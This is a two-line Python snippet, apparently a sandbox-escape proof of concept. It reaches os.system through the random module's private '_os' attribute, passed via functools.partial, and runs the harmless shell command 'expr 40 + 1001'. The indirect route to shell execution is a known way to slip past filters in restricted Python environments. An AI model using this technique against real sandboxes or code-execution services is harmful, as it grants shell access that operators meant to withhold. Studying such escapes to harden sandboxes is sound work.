import random, functools
functools.partial(len,random).args[0]._os.system("expr 40 + 1001")
